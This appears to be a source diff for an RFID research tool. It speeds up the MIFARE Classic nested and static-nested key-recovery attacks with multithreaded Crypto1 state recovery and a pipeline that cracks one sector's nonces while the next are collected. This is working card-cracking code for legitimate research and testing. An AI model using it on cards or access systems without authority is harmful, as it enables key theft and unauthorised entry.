@@ -416,60 +416,209 @@ inline static int Compare16Bits(const void *a, const void *b) {
     return -1;
 }
 
-// wrapper function for multi-threaded lfsr_recovery32
+#define NESTED_MAX_THREADS 32
+
+// lfsr_recovery32 arenas and parts, kept between calls. Nested attacks run many recoveries back to back.
+// They are process wide and not locked, only one nested attack may run at a time.
+static crapto1_arena_t nested_arenas[NESTED_MAX_THREADS];
+static lfsr_recovery32_part_t nested_parts[NESTED_MAX_THREADS];
+static uint32_t nested_num_arenas = 0;
+
+// The arenas are kept for all recoveries of one attack, hf mf autopwn runs one per sector.
+// Callers release them with mfNestedFree() once the attack is done.
+void mfNestedFree(void) {
+    for (uint32_t i = 0; i < nested_num_arenas; i++)
+        crapto1_arena_free(&nested_arenas[i]);
+    nested_num_arenas = 0;
+}
+
+typedef struct {
+    const StateList_t *statelist;
+    uint32_t idx;
+    uint32_t num_threads;
+    uint32_t *next_bucket;
+    struct Crypto1State *sl_tail;
+} nested_thread_arg_t;
+
+// multi-threaded lfsr_recovery32, phase 1: each thread builds one part of the tables
 static void
 #ifdef __has_attribute
 #if __has_attribute(force_align_arg_pointer)
 __attribute__((force_align_arg_pointer))
 #endif
 #endif
-*nested_worker_thread(void *arg) {
-    struct Crypto1State *p1;
-    StateList_t *statelist = arg;
-    statelist->head.slhead = lfsr_recovery32(statelist->ks1, statelist->nt_enc ^ statelist->uid);
+*nested_part_thread(void *arg) {
+    nested_thread_arg_t *t = arg;
+    lfsr_recovery32_part(t->statelist->ks1, t->statelist->nt_enc ^ t->statelist->uid, t->idx, t->num_threads,
+                         &nested_arenas[t->idx], &nested_parts[t->idx]);
+    return NULL;
+}
 
-    for (p1 = statelist->head.slhead; p1->odd | p1->even; p1++) {};
+// multi-threaded lfsr_recovery32, phase 2: threads pick the next bucket until all are recovered
+static void
+#ifdef __has_attribute
+#if __has_attribute(force_align_arg_pointer)
+__attribute__((force_align_arg_pointer))
+#endif
+#endif
+*nested_bucket_thread(void *arg) {
+    nested_thread_arg_t *t = arg;
+    struct Crypto1State *sl = nested_arenas[t->idx].sl;
+    uint32_t bucket;
+    while ((bucket = __atomic_fetch_add(t->next_bucket, 1, __ATOMIC_RELAXED)) <= 0xff) {
+        sl = lfsr_recovery32_bucket(nested_parts, t->num_threads, bucket, &nested_arenas[t->idx], sl);
+    }
+    t->sl_tail = sl;
+    return NULL;
+}
 
-    statelist->len = p1 - statelist->head.slhead;
-    statelist->tail.sltail = --p1;
+// 16 bits of the cryptostate Compare16Bits() looks at
+#define STATE16(v) ((((v) >> 40) & 0xff00) | (((v) >> 16) & 0xff))
 
-    qsort(statelist->head.slhead, statelist->len, sizeof(uint64_t), Compare16Bits);
+// recover all states for one statelist, sorted by Compare16Bits() order
+static int nested_recover(StateList_t *statelist) {
 
-    return statelist->head.slhead;
-}
+    uint32_t num_threads = num_CPUs();
+    if (num_threads > NESTED_MAX_THREADS)
+        num_threads = NESTED_MAX_THREADS;
+    if (num_threads == 0)
+        num_threads = 1;
 
-int mfnested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo, uint8_t trgKeyType, uint8_t *resultKey, bool calibrate) {
+    while (nested_num_arenas < num_threads) {
+        if (crapto1_arena_alloc(&nested_arenas[nested_num_arenas]) == false)
+            return PM3_EMALLOC;
+        nested_num_arenas++;
+    }
+
+    pthread_t thread_id[NESTED_MAX_THREADS];
+    nested_thread_arg_t args[NESTED_MAX_THREADS];
+    uint32_t next_bucket = 0;
+
+    for (uint32_t i = 0; i < num_threads; i++) {
+        args[i].statelist = statelist;
+        args[i].idx = i;
+        args[i].num_threads = num_threads;
+        args[i].next_bucket = &next_bucket;
+        args[i].sl_tail = NULL;
+    }
+
+    for (uint32_t i = 0; i < num_threads; i++)
+        pthread_create(thread_id + i, NULL, nested_part_thread, &args[i]);
+    for (uint32_t i = 0; i < num_threads; i++)
+        pthread_join(thread_id[i], NULL);
+
+    for (uint32_t i = 0; i < num_threads; i++)
+        pthread_create(thread_id + i, NULL, nested_bucket_thread, &args[i]);
+    for (uint32_t i = 0; i < num_threads; i++)
+        pthread_join(thread_id[i], NULL);
+
+    // gather the states of all threads with a single pass counting sort on the 16 compared bits,
+    // descending like Compare16Bits()
+    uint32_t *count = calloc(0x10000, sizeof(uint32_t));
+    if (count == NULL)
+        return PM3_EMALLOC;
+
+    size_t len = 0;
+    for (uint32_t i = 0; i < num_threads; i++) {
+        for (struct Crypto1State *p = nested_arenas[i].sl; p < args[i].sl_tail; p++) {
+            uint64_t v;
+            memcpy(&v, p, sizeof(v));
+            count[STATE16(v)]++;
+        }
+        len += args[i].sl_tail - nested_arenas[i].sl;
+    }
 
-    uint32_t uid;
-    StateList_t statelists[2];
-    struct Crypto1State *p1, *p2, *p3, *p4;
+    // one extra zeroed state as end marker
+    statelist->head.slhead = calloc(len + 1, sizeof(struct Crypto1State));
+    if (statelist->head.slhead == NULL) {
+        free(count);
+        return PM3_EMALLOC;
+    }
 
-    struct {
-        uint8_t block;
-        uint8_t keytype;
-        uint8_t target_block;
-        uint8_t target_keytype;
-        bool calibrate;
-        uint8_t key[6];
-    } PACKED payload;
-    payload.block = blockNo;
-    payload.keytype = keyType;
-    payload.target_block = trgBlockNo;
-    payload.target_keytype = trgKeyType;
-    payload.calibrate = calibrate;
-    memcpy(payload.key, key, sizeof(payload.key));
+    uint32_t pos = 0;
+    for (int32_t k = 0xffff; k >= 0; k--) {
+        uint32_t n = count[k];
+        count[k] = pos;
+        pos += n;
+    }
+
+    for (uint32_t i = 0; i < num_threads; i++) {
+        for (struct Crypto1State *p = nested_arenas[i].sl; p < args[i].sl_tail; p++) {
+            uint64_t v;
+            memcpy(&v, p, sizeof(v));
+            statelist->head.slhead[count[STATE16(v)]++] = *p;
+        }
+    }
+    free(count);
+
+    statelist->len = len;
+    statelist->tail.sltail = statelist->head.slhead + len - 1;
+    return PM3_SUCCESS;
+}
+
+// device side of the nested attacks, collects two encrypted nonces and keystreams for the target block
+static int nested_collect(bool is_static, uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo, uint8_t trgKeyType, bool calibrate, StateList_t *statelists) {
 
     PacketResponseNG resp;
+    uint8_t *data;
     clearCommandBuffer();
-    SendCommandNG(CMD_HF_MIFARE_NESTED, (uint8_t *)&payload, sizeof(payload));
 
-    if (WaitForResponseTimeout(CMD_HF_MIFARE_NESTED, &resp, 2000) == false) {
-        SendCommandNG(CMD_BREAK_LOOP, NULL, 0);
-        return PM3_ETIMEOUT;
+    if (is_static) {
+        struct {
+            uint8_t block;
+            uint8_t keytype;
+            uint8_t target_block;
+            uint8_t target_keytype;
+            uint8_t key[6];
+        } PACKED payload;
+        payload.block = blockNo;
+        payload.keytype = keyType;
+        payload.target_block = trgBlockNo;
+        payload.target_keytype = trgKeyType;
+        memcpy(payload.key, key, sizeof(payload.key));
+
+        SendCommandNG(CMD_HF_MIFARE_STATIC_NESTED, (uint8_t *)&payload, sizeof(payload));
+
+        if (WaitForResponseTimeout(CMD_HF_MIFARE_STATIC_NESTED, &resp, 2000) == false)
+            return PM3_ETIMEOUT;
+
+        if (resp.status != PM3_SUCCESS)
+            return resp.status;
+
+        data = resp.data.asBytes;
+    } else {
+        struct {
+            uint8_t block;
+            uint8_t keytype;
+            uint8_t target_block;
+            uint8_t target_keytype;
+            bool calibrate;
+            uint8_t key[6];
+        } PACKED payload;
+        payload.block = blockNo;
+        payload.keytype = keyType;
+        payload.target_block = trgBlockNo;
+        payload.target_keytype = trgKeyType;
+        payload.calibrate = calibrate;
+        memcpy(payload.key, key, sizeof(payload.key));
+
+        SendCommandNG(CMD_HF_MIFARE_NESTED, (uint8_t *)&payload, sizeof(payload));
+
+        if (WaitForResponseTimeout(CMD_HF_MIFARE_NESTED, &resp, 2000) == false) {
+            SendCommandNG(CMD_BREAK_LOOP, NULL, 0);
+            return PM3_ETIMEOUT;
+        }
+
+        // error during nested on device side
+        int16_t isOK;
+        memcpy(&isOK, resp.data.asBytes, sizeof(isOK));
+        if (isOK != PM3_SUCCESS)
+            return isOK;
+
+        data = resp.data.asBytes + sizeof(isOK);
     }
 
     struct p {
-        int16_t isOK;
         uint8_t block;
         uint8_t keytype;
         uint8_t cuid[4];
@@ -478,36 +627,43 @@ int mfnested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo,
         uint8_t nt_b[4];
         uint8_t ks_b[4];
     } PACKED;
-    struct p *package = (struct p *)resp.data.asBytes;
-
-    // error during nested on device side
-    if (package->isOK != PM3_SUCCESS)
-        return package->isOK;
+    struct p *package = (struct p *)data;
 
+    uint32_t uid;
     memcpy(&uid, package->cuid, sizeof(package->cuid));
 
     for (uint8_t i = 0; i < 2; i++) {
         statelists[i].blockNo = package->block;
         statelists[i].keyType = package->keytype;
         statelists[i].uid = uid;
+        statelists[i].head.slhead = NULL;
+        statelists[i].len = 0;
     }
 
-    memcpy(&statelists[0].nt_enc,  package->nt_a, sizeof(package->nt_a));
+    memcpy(&statelists[0].nt_enc, package->nt_a, sizeof(package->nt_a));
     memcpy(&statelists[0].ks1, package->ks_a, sizeof(package->ks_a));
 
-    memcpy(&statelists[1].nt_enc,  package->nt_b, sizeof(package->nt_b));
+    memcpy(&statelists[1].nt_enc, package->nt_b, sizeof(package->nt_b));
     memcpy(&statelists[1].ks1, package->ks_b, sizeof(package->ks_b));
+    return PM3_SUCCESS;
+}
 
-    // calc keys
-    pthread_t thread_id[2];
+// host side of the nested attacks, leaves the key candidates in statelists[0]
+static int nested_candidates(StateList_t *statelists) {
 
-    // create and run worker threads
-    for (uint8_t i = 0; i < 2; i++)
-        pthread_create(thread_id + i, NULL, nested_worker_thread, &statelists[i]);
+    struct Crypto1State *p1, *p2, *p3, *p4;
 
-    // wait for threads to terminate:
-    for (uint8_t i = 0; i < 2; i++)
-        pthread_join(thread_id[i], (void *)&statelists[i].head.slhead);
+    // calc keys, each recovery uses all cores
+    statelists[0].head.slhead = NULL;
+    statelists[1].head.slhead = NULL;
+    for (uint8_t i = 0; i < 2; i++) {
+        if (nested_recover(&statelists[i]) != PM3_SUCCESS) {
+            free(statelists[0].head.slhead);
+            statelists[0].head.slhead = NULL;
+            statelists[0].len = 0;
+            return PM3_EMALLOC;
+        }
+    }
 
     // the first 16 Bits of the cryptostate already contain part of our key.
     // Create the intersection of the two lists based on these 16 Bits and
@@ -555,7 +711,23 @@ int mfnested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo,
     // Create the intersection
     statelists[0].len = intersection(statelists[0].head.keyhead, statelists[1].head.keyhead);
 
-    //statelists[0].tail.keytail = --p7;
+    free(statelists[1].head.slhead);
+    statelists[1].head.slhead = NULL;
+    return PM3_SUCCESS;
+}
+
+int mfnested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo, uint8_t trgKeyType, uint8_t *resultKey, bool calibrate) {
+
+    StateList_t statelists[2];
+
+    int res = nested_collect(false, blockNo, keyType, key, trgBlockNo, trgKeyType, calibrate, statelists);
+    if (res != PM3_SUCCESS)
+        return res;
+
+    res = nested_candidates(statelists);
+    if (res != PM3_SUCCESS)
+        return res;
+
     uint32_t keycnt = statelists[0].len;
     if (keycnt == 0) goto out;
 
@@ -576,18 +748,17 @@ int mfnested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo,
 
         register uint8_t j;
         for (j = 0; j < size; j++) {
-            crypto1_get_lfsr(statelists[0].head.slhead + i, &key64);
+            crypto1_get_lfsr(statelists[0].head.slhead + i + j, &key64);
             num_to_bytes(key64, 6, keyBlock + j * 6);
         }
 
         if (mfCheckKeys(statelists[0].blockNo, statelists[0].keyType, false, size, keyBlock, &key64) == PM3_SUCCESS) {
             free(statelists[0].head.slhead);
-            free(statelists[1].head.slhead);
             num_to_bytes(key64, 6, resultKey);
 
             PrintAndLogEx(SUCCESS, "\nTarget block %4u key type %c -- found valid key [ " _GREEN_("%s") " ]",
-                          package->block,
-                          package->keytype ? 'B' : 'A',
+                          statelists[0].blockNo,
+                          statelists[0].keyType ? 'B' : 'A',
                           sprint_hex_inrow(resultKey, 6)
                          );
             return PM3_SUCCESS;
@@ -599,126 +770,25 @@ int mfnested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo,
 
 out:
     PrintAndLogEx(SUCCESS, "\nTarget block %4u key type %c",
-                  package->block,
-                  package->keytype ? 'B' : 'A'
+                  statelists[0].blockNo,
+                  statelists[0].keyType ? 'B' : 'A'
                  );
 
     free(statelists[0].head.slhead);
-    free(statelists[1].head.slhead);
     return PM3_ESOFT;
 }
 
 int mfStaticNested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBlockNo, uint8_t trgKeyType, uint8_t *resultKey) {
 
-    uint32_t uid;
     StateList_t statelists[2];
-    struct Crypto1State *p1, *p2, *p3, *p4;
-
-    struct {
-        uint8_t block;
-        uint8_t keytype;
-        uint8_t target_block;
-        uint8_t target_keytype;
-        uint8_t key[6];
-    } PACKED payload;
-    payload.block = blockNo;
-    payload.keytype = keyType;
-    payload.target_block = trgBlockNo;
-    payload.target_keytype = trgKeyType;
-    memcpy(payload.key, key, sizeof(payload.key));
-
-    PacketResponseNG resp;
-    clearCommandBuffer();
-    SendCommandNG(CMD_HF_MIFARE_STATIC_NESTED, (uint8_t *)&payload, sizeof(payload));
-
-    if (WaitForResponseTimeout(CMD_HF_MIFARE_STATIC_NESTED, &resp, 2000) == false)
-        return PM3_ETIMEOUT;
-
-    if (resp.status != PM3_SUCCESS)
-        return resp.status;
-
-    struct p {
-        uint8_t block;
-        uint8_t keytype;
-        uint8_t cuid[4];
-        uint8_t nt_a[4];
-        uint8_t ks_a[4];
-        uint8_t nt_b[4];
-        uint8_t ks_b[4];
-    } PACKED;
-    struct p *package = (struct p *)resp.data.asBytes;
-
-    memcpy(&uid, package->cuid, sizeof(package->cuid));
-
-    for (uint8_t i = 0; i < 2; i++) {
-        statelists[i].blockNo = package->block;
-        statelists[i].keyType = package->keytype;
-        statelists[i].uid = uid;
-    }
-
-    memcpy(&statelists[0].nt_enc, package->nt_a, sizeof(package->nt_a));
-    memcpy(&statelists[0].ks1, package->ks_a, sizeof(package->ks_a));
-
-    memcpy(&statelists[1].nt_enc, package->nt_b, sizeof(package->nt_b));
-    memcpy(&statelists[1].ks1, package->ks_b, sizeof(package->ks_b));
-
-    // calc keys
-    pthread_t thread_id[2];
 
-    // create and run worker threads
-    for (uint8_t i = 0; i < 2; i++)
-        pthread_create(thread_id + i, NULL, nested_worker_thread, &statelists[i]);
-
-    // wait for threads to terminate:
-    for (uint8_t i = 0; i < 2; i++)
-        pthread_join(thread_id[i], (void *)&statelists[i].head.slhead);
-
-    // the first 16 Bits of the cryptostate already contain part of our key.
-    // Create the intersection of the two lists based on these 16 Bits and
-    // roll back the cryptostate
-    p1 = p3 = statelists[0].head.slhead;
-    p2 = p4 = statelists[1].head.slhead;
-
-    while (p1 <= statelists[0].tail.sltail && p2 <= statelists[1].tail.sltail) {
-        if (Compare16Bits(p1, p2) == 0) {
-
-            struct Crypto1State savestate;
-            savestate = *p1;
-            while (Compare16Bits(p1, &savestate) == 0 && p1 <= statelists[0].tail.sltail) {
-                *p3 = *p1;
-                lfsr_rollback_word(p3, statelists[0].nt_enc ^ statelists[0].uid, 0);
-                p3++;
-                p1++;
-            }
-            savestate = *p2;
-            while (Compare16Bits(p2, &savestate) == 0 && p2 <= statelists[1].tail.sltail) {
-                *p4 = *p2;
-                lfsr_rollback_word(p4, statelists[1].nt_enc ^ statelists[1].uid, 0);
-                p4++;
-                p2++;
-            }
-        } else {
-            while (Compare16Bits(p1, p2) == -1) p1++;
-            while (Compare16Bits(p1, p2) == 1) p2++;
-        }
-    }
-
-    p3->odd = -1;
-    p3->even = -1;
-    p4->odd = -1;
-    p4->even = -1;
-    statelists[0].len = p3 - statelists[0].head.slhead;
-    statelists[1].len = p4 - statelists[1].head.slhead;
-    statelists[0].tail.sltail = --p3;
-    statelists[1].tail.sltail = --p4;
-
-    // the statelists now contain possible keys. The key we are searching for must be in the
-    // intersection of both lists
-    qsort(statelists[0].head.keyhead, statelists[0].len, sizeof(uint64_t), compare_uint64);
-    qsort(statelists[1].head.keyhead, statelists[1].len, sizeof(uint64_t), compare_uint64);
-    // Create the intersection
-    statelists[0].len = intersection(statelists[0].head.keyhead, statelists[1].head.keyhead);
+    int res = nested_collect(true, blockNo, keyType, key, trgBlockNo, trgKeyType, false, statelists);
+    if (res != PM3_SUCCESS)
+        return res;
 
+    res = nested_candidates(statelists);
+    if (res != PM3_SUCCESS)
+        return res;
 
     /*
 
@@ -816,7 +886,7 @@ int mfStaticNested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBl
             return PM3_EOPABORTED;
         }
 
-        int res = 0;
+        res = 0;
         uint64_t key64 = 0;
         uint32_t chunk = keycnt - i > max_keys_chunk ? max_keys_chunk : keycnt - i;
 
@@ -855,8 +925,8 @@ int mfStaticNested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBl
                 PrintAndLogEx(NORMAL, "");
 
             PrintAndLogEx(SUCCESS, "target block %4u key type %c -- found valid key [ " _GREEN_("%s") " ]",
-                          package->block,
-                          package->keytype ? 'B' : 'A',
+                          statelists[0].blockNo,
+                          statelists[0].keyType ? 'B' : 'A',
                           sprint_hex_inrow(resultKey, 6)
                          );
             return PM3_SUCCESS;
@@ -876,15 +946,217 @@ int mfStaticNested(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t trgBl
 out:
 
     PrintAndLogEx(SUCCESS, "\nTarget block %4u key type %c",
-                  package->block,
-                  package->keytype ? 'B' : 'A'
+                  statelists[0].blockNo,
+                  statelists[0].keyType ? 'B' : 'A'
                  );
 
     free(statelists[0].head.slhead);
-    free(statelists[1].head.slhead);
     return PM3_ESOFT;
 }
 
+// one target of the nested pipeline, travels from the collecting to the cracking and back to the verifying stage
+typedef struct nested_job_s {
+    StateList_t statelists[2];
+    uint8_t sector;
+    uint8_t keytype;
+    int res;
+    struct nested_job_s *next;
+} nested_job_t;
+
+typedef struct {
+    pthread_mutex_t lock;
+    pthread_cond_t cond;
+    nested_job_t *todo;
+    nested_job_t **todo_tail;
+    nested_job_t *done;
+    bool collecting;
+} nested_pipeline_t;
+
+// cracking stage, runs while the device collects the nonces of the following targets
+static void
+#ifdef __has_attribute
+#if __has_attribute(force_align_arg_pointer)
+__attribute__((force_align_arg_pointer))
+#endif
+#endif
+*nested_pipeline_thread(void *arg) {
+    nested_pipeline_t *pl = arg;
+
+    for (;;) {
+        pthread_mutex_lock(&pl->lock);
+        while (pl->todo == NULL && pl->collecting)
+            pthread_cond_wait(&pl->cond, &pl->lock);
+
+        nested_job_t *job = pl->todo;
+        if (job == NULL) {
+            pthread_mutex_unlock(&pl->lock);
+            return NULL;
+        }
+        pl->todo = job->next;
+        if (pl->todo == NULL)
+            pl->todo_tail = &pl->todo;
+        pthread_mutex_unlock(&pl->lock);
+
+        job->res = nested_candidates(job->statelists);
+
+        pthread_mutex_lock(&pl->lock);
+        job->next = pl->done;
+        pl->done = job;
+        pthread_cond_broadcast(&pl->cond);
+        pthread_mutex_unlock(&pl->lock);
+    }
+}
+
+// verifying stage, checks the key candidates of all cracked targets. Returns the number of targets handled.
+static uint32_t nested_pipeline_verify(nested_pipeline_t *pl, bool wait, sector_t *e_sector, char found_type, int *res) {
+
+    pthread_mutex_lock(&pl->lock);
+    if (wait) {
+        while (pl->done == NULL)
+            pthread_cond_wait(&pl->cond, &pl->lock);
+    }
+    nested_job_t *jobs = pl->done;
+    pl->done = NULL;
+    pthread_mutex_unlock(&pl->lock);
+
+    uint32_t handled = 0;
+    uint8_t keyBlock[KEYS_IN_BLOCK * 6];
+
+    while (jobs) {
+        nested_job_t *job = jobs;
+        jobs = job->next;
+        handled++;
+
+        StateList_t *sl = &job->statelists[0];
+        for (uint32_t i = 0; job->res == PM3_SUCCESS && *res != PM3_ETIMEOUT && *res != PM3_EOPABORTED && i < sl->len; i += KEYS_IN_BLOCK) {
+
+            if (e_sector[job->sector].foundKey[job->keytype])
+                break;
+
+            uint32_t size = sl->len - i > KEYS_IN_BLOCK ? KEYS_IN_BLOCK : sl->len - i;
+            uint64_t key64 = 0;
+            for (uint32_t j = 0; j < size; j++) {
+                crypto1_get_lfsr(sl->head.slhead + i + j, &key64);
+                num_to_bytes(key64, 6, keyBlock + j * 6);
+            }
+
+            int chk = mfCheckKeys(sl->blockNo, sl->keyType, false, size, keyBlock, &key64);
+            if (chk == PM3_SUCCESS) {
+                e_sector[job->sector].Key[job->keytype] = key64;
+                e_sector[job->sector].foundKey[job->keytype] = found_type;
+                PrintAndLogEx(SUCCESS, "target sector %3u key type %c -- found valid key [ " _GREEN_("%012" PRIx64) " ]",
+                              job->sector,
+                              (job->keytype == MF_KEY_B) ? 'B' : 'A',
+                              key64
+                             );
+            } else if (chk == PM3_ETIMEOUT || chk == PM3_EOPABORTED) {
+                *res = chk;
+            }
+        }
+
+        free(sl->head.slhead);
+        free(job);
+    }
+    return handled;
+}
+
+// Pipelined nested / static nested attack over all sectors with unknown keys.
+// The device collects the nonces of the next target while the host cracks the previous ones,
+// so the total time is bound by the slower of both. Found keys are stored in e_sector,
+// targets without a key are left for the caller.
+int mfNestedPipeline(uint8_t blockNo, uint8_t keyType, uint8_t *key, uint8_t sectorsCnt, sector_t *e_sector, bool is_static, bool *calibrate, bool verbose) {
+
+    nested_pipeline_t pl = {
+        .todo = NULL,
+        .done = NULL,
+        .collecting = true,
+    };
+    pl.todo_tail = &pl.todo;
+    pthread_mutex_init(&pl.lock, NULL);
+    pthread_cond_init(&pl.cond, NULL);
+
+    pthread_t thread;
+    if (pthread_create(&thread, NULL, nested_pipeline_thread, &pl)) {
+        pthread_mutex_destroy(&pl.lock);
+        pthread_cond_destroy(&pl.cond);
+        return PM3_ESOFT;
+    }
+
+    int res = PM3_SUCCESS;
+    uint32_t in_flight = 0;
+    uint64_t t1 = msclock();
+
+    for (uint8_t sector = 0; sector < sectorsCnt && res == PM3_SUCCESS; sector++) {
+        for (uint8_t kt = MF_KEY_A; kt <= MF_KEY_B && res == PM3_SUCCESS; kt++) {
+
+            if (e_sector[sector].foundKey[kt])
+                continue;
+
+            if (kbd_enter_pressed()) {
+                SendCommandNG(CMD_BREAK_LOOP, NULL, 0);
+                res = PM3_EOPABORTED;
+                break;
+            }
+
+            nested_job_t *job = calloc(1, sizeof(nested_job_t));
+            if (job == NULL) {
+                res = PM3_EMALLOC;
+                break;
+            }
+            job->sector = sector;
+            job->keytype = kt;
+
+            int col = nested_collect(is_static, blockNo, keyType, key, mfFirstBlockOfSector(sector), kt, *calibrate, job->statelists);
+            if (col != PM3_SUCCESS) {
+                free(job);
+                // the caller's per sector attack handles retries and falls back to hardnested
+                if (col == PM3_ESOFT)
+                    continue;
+                res = col;
+                break;
+            }
+            *calibrate = false;
+
+            if (verbose) {
+                PrintAndLogEx(INFO, "collected nonces of sector %3u key type %c", sector, (kt == MF_KEY_B) ? 'B' : 'A');
+            }
+
+            pthread_mutex_lock(&pl.lock);
+            *pl.todo_tail = job;
+            pl.todo_tail = &job->next;
+            pthread_cond_broadcast(&pl.cond);
+            pthread_mutex_unlock(&pl.lock);
+            in_flight++;
+
+            // verify all targets cracked in the meantime
+            in_flight -= nested_pipeline_verify(&pl, false, e_sector, is_static ? 'C' : 'N', &res);
+        }
+    }
+
+    pthread_mutex_lock(&pl.lock);
+    pl.collecting = false;
+    pthread_cond_broadcast(&pl.cond);
+    pthread_mutex_unlock(&pl.lock);
+
+    while (in_flight) {
+        in_flight -= nested_pipeline_verify(&pl, true, e_sector, is_static ? 'C' : 'N', &res);
+    }
+
+    pthread_join(thread, NULL);
+    pthread_mutex_destroy(&pl.lock);
+    pthread_cond_destroy(&pl.cond);
+
+    // release the arenas on errors, per sector attacks that still run allocate them again
+    if (res != PM3_SUCCESS) {
+        mfNestedFree();
+    }
+
+    if (verbose) {
+        PrintAndLogEx(INFO, "nested pipeline done in %.1f seconds", (float)(msclock() - t1) / 1000.0);
+    }
+    return res;
+}
+
 // MIFARE
 int mfReadSector(uint8_t sectorNo, uint8_t keyType, const uint8_t *key, uint8_t *data) {
 